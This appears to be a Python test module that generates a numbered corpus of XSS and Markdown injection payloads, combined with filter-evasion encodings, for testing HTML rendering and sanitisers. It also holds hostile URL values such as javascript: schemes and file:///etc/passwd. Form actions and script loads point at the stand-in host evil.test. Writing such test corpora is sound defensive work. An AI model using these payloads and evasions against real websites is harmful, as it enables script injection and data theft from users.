"""A corpus of hostile strings for rendering tests, built from small parts: attack vectors x encodings.

Every payload carries a number. The script it would run sets `window.__pwned` to that number or calls `alert()`
with it, and everything remote it would load, submit to or navigate to lives on EVIL_HOST, so a browser test can
tell which payload got through and how. The corpus is generated here from these building blocks, nothing else.
"""

from __future__ import annotations

import base64
import html
import re
from collections.abc import Callable
from dataclasses import dataclass
from string import Template
from urllib.parse import quote

EVIL_HOST = "evil.test"  # a reserved top-level domain (RFC 2606): it never resolves
EVIL = f"http://{EVIL_HOST}"

# Attack vectors: $js is the script to run, $evil the attacker's origin.
HTML_VECTORS: dict[str, str] = {
    "script": "<script>$js</script>",
    "script-src": '<script src="$evil/x.js"></script>',
    "img-onerror": "<img src=x onerror=$js>",
    "img-remote": "<img src=$evil/pixel.png alt=chart>",
    "img-srcset": '<img srcset="$evil/a.png 1x" alt=y>',
    "svg-onload": "<svg onload=$js>",
    "svg-script": "<svg><script>$js</script></svg>",
    "iframe-js": '<iframe src="javascript:$js"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.$js</script>'></iframe>",
    "iframe-remote": "<iframe src=$evil/frame></iframe>",
    "object": '<object data="$evil/x.swf"></object>',
    "embed": '<embed src="$evil/x.svg">',
    "body-onload": "<body onload=$js>",
    "details-ontoggle": "<details open ontoggle=$js>",
    "input-onfocus": "<input autofocus onfocus=$js>",
    "a-js": '<a href="javascript:$js">open</a>',
    "a-data": '<a href="data:text/html,<script>$js</script>">open</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">open</a>',
    "math-xlink": '<math><a xlink:href="javascript:$js">m</a></math>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=$evil/r">',
    "base-href": '<base href="$evil/">',
    "form-action": '<form action="$evil/steal"><button>send</button></form>',
    "formaction": '<button formaction="$evil/steal">send</button>',
    "style-url": '<div style="background:url($evil/bg.png)">bg</div>',
    "style-import": "<style>@import '$evil/s.css';</style>",
    "link-css": '<link rel=stylesheet href="$evil/s.css">',
    "video-source": "<video><source onerror=$js></video>",
    "audio": "<audio src=x onerror=$js>",
    "attr-break-dq": '"><script>$js</script>',
    "attr-break-sq": "' autofocus onfocus='$js' x='",
    "textarea-break": "</textarea><script>$js</script>",
    "title-break": "</title><script>$js</script>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=$js>">',
    "comment-break": "--><script>$js</script><!--",
    "template-syntax": "{{ 7*7 }} {% raw %} $${7*7}",
}
MARKDOWN_VECTORS: dict[str, str] = {
    "md-js-link": "[details](javascript:$js)",
    "md-data-link": "[details]($data)",
    "md-vbscript-link": "[details](vbscript:msgbox(1))",
    "md-image": "![chart]($evil/chart.png)",
    "md-reference": "[see][r1] [r1]: javascript:$js",
    "md-autolink": "<$evil/auto>",
    "md-autolink-js": "<javascript:$js>",
    "md-raw-html": "**bold** <b onmouseover=$js>hover</b>",
}
VECTORS = {**HTML_VECTORS, **MARKDOWN_VECTORS}

_FULLWIDTH = str.maketrans({"<": "＜", ">": "＞", '"': "＂", "'": "＇", "/": "／"})
_HOMOGLYPH = str.maketrans({"a": "а", "c": "с", "o": "о", "p": "р", "s": "ѕ"})  # Cyrillic look-alikes
_SCHEMES = re.compile(r"javascript|vbscript|script|data(?=:)|onerror|onload|onfocus|iframe|href|src")


def _mixed_case(text: str) -> str:
    return _SCHEMES.sub(lambda m: "".join(c.upper() if i % 2 else c for i, c in enumerate(m.group(0))), text)


def _zero_width(text: str) -> str:
    text = text.replace("<", "<\u200d").replace("javascript", "java\u200dscript")
    return text.replace("script", "scr\u200bipt")


ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": lambda t: t,
    "mixed-case": _mixed_case,
    "entities": html.escape,
    "numeric-entities": lambda t: t.replace("<", "&#60;").replace(">", "&#x3e;").replace(":", "&#58;"),
    "double-encoded": lambda t: html.escape(html.escape(t)),
    "percent": lambda t: quote(t, safe=" "),
    "fullwidth": lambda t: t.translate(_FULLWIDTH),
    "zero-width": _zero_width,
    "rtl-override": lambda t: f"\u202e{t}\u202c",
    "homoglyph": lambda t: _SCHEMES.sub(lambda m: m.group(0).translate(_HOMOGLYPH), t),
    "tab-in-scheme": lambda t: t.replace("javascript:", "java\tscript:").replace("<", "<\t"),
}


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile string; `n` is what its script would report."""

    n: int
    vector: str
    encoding: str
    text: str


def _js(n: int) -> str:
    return f"alert({n})" if n % 3 == 0 else f"window.__pwned={n}"


def _fill(template: str, n: int) -> str:
    script = f"<script>{_js(n)}</script>".encode()
    data = "data:text/html;base64," + base64.b64encode(script).decode()
    return Template(template).substitute(js=_js(n), evil=EVIL, data=data)


def corpus() -> list[Payload]:
    """Every vector under every encoding, numbered from 1; an encoding that leaves a vector unchanged is skipped."""
    out: list[Payload] = []
    for vector, template in VECTORS.items():
        seen: set[str] = set()
        for encoding, encode in ENCODINGS.items():
            n = len(out) + 1
            text = encode(_fill(template, n))
            if text not in seen:
                seen.add(text)
                out.append(Payload(n, vector, encoding, text))
    return out


def hostile_urls() -> list[str]:
    """Values for a source's `url` field that must never become a live link (or must stay inert http(s) links)."""
    js = "window.__pwned=1"
    return [
        f"javascript:{js}",
        f"JaVaScRiPt:{js}",
        f" javascript:{js}",
        f"\x01javascript:{js}",
        f"java\tscript:{js}",
        f"java\nscript:{js}",
        f"jаvascript:{js}",
        f"&#106;avascript:{js}",
        f"javascript&colon;{js}",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHA+aGk8L3A+",
        "file:///etc/passwd",
        f"//{EVIL_HOST}/relative",
        f"\\\\{EVIL_HOST}\\share",
        "https:evil.test",
        f'{EVIL}/q" onmouseover="{js}',
        f"{EVIL}/<script>{js}</script>",
        f"{EVIL}/'autofocus onfocus='{js}",
    ]
